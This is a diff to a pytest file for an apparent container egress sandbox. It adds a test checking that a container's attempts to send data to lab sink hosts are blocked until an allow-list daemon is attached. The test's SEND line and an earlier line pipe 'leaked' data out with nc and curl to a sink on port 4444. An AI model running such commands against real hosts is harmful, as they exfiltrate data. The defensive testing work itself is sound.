@@ -12,7 +12,7 @@ from lab.daemon import Daemon, Sandbox, running
 from lab.engine import IMAGE, MACHINE, Engine, engine
 from lab.guarded import NEIGHBOUR, WITH_ATTACKS, ask_dockers_resolver, user_defined_network
 from lab.internet import Internet
-from lab.processes import wait_until
+from lab.processes import check, wait_until
 from lab.sandgate import allowing
 
 WITHOUT_RAW = ("--cap-drop", "NET_RAW")
@@ -72,6 +72,47 @@ def test_network_is_guarded_before_the_workload_begins(internet: Internet, daemo
     script = f"echo early | nc -w 1 {plan.SINK4} 4444; curl -sS -m 5 http://{plan.ALLOWED}/"
     output = docker.docker("run", "--rm", *WITHOUT_RAW, "--network", "container:holder", IMAGE, "/bin/sh", "-c", script)
     assert f"served {plan.ALLOWED}" in output and internet.sinks.data() == ""
+    docker.docker("rm", "--force", holder)
+
+
+SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {plan.SINK4} 4444"
+"""To a sink, as a datagram and over TCP."""
+NOWHERE = (
+    "ip link add nowhere type bridge && ip address add 192.0.0.2/32 dev nowhere && "
+    "ip link set nowhere up && ip route add default dev nowhere"
+)
+"""As the page on containers has it: what a container without a network needs for programs to send at all."""
+
+
+@pytest.mark.attack(
+    "T4", "floods from its first instruction in a network that leads nowhere but to the daemon", stopped_by="kernel"
+)
+def test_network_that_leads_nowhere_unless_it_is_guarded(internet: Internet, daemon: Daemon, docker: Engine) -> None:
+    free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, "/bin/sh", "-c", f"{SEND}; sleep 600")
+    services: set[str] = set()
+
+    def arrived() -> bool:
+        services.update(arrival.service for arrival in internet.sinks.arrivals() if "leaked" in arrival.data)
+        return services == {"tcp-sink", "udp-sink"}
+
+    wait_until(arrived, "what is sent before anybody could attach", 30)
+    docker.docker("rm", "--force", free)
+    holder = docker.start("--network", "none", "--cap-drop", "ALL", "--name", "box-net")
+    process = docker.inspect(holder, "{{.State.Pid}}")
+    check("nsenter", f"--net=/proc/{process}/ns/net", "/bin/sh", "-c", NOWHERE)
+
+    def workload() -> str:
+        script = f"{SEND}; curl -sS -m 5 http://{plan.ALLOWED}/; curl -sS -m 5 http://{plan.DENIED}/; true"
+        joined = ("run", "--rm", "--cap-drop", "ALL", "--network", "container:box-net", IMAGE)
+        return docker.docker(*joined, "/bin/sh", "-c", script)
+
+    assert "served" not in workload(), "before it is attached"
+    sandbox = attach(daemon, "box-net", allowing(plan.ALLOWED), inbound="none")
+    output = workload()
+    assert f"served {plan.ALLOWED}" in output and f"served {plan.DENIED}" not in output
+    assert sandbox.ask("DELETE").status == 204
+    assert "served" not in workload(), "after it is let go"
+    assert internet.sinks.data() == "" and internet.web.hosts() == {plan.ALLOWED}
     docker.docker("rm", "--force", holder)
 
 
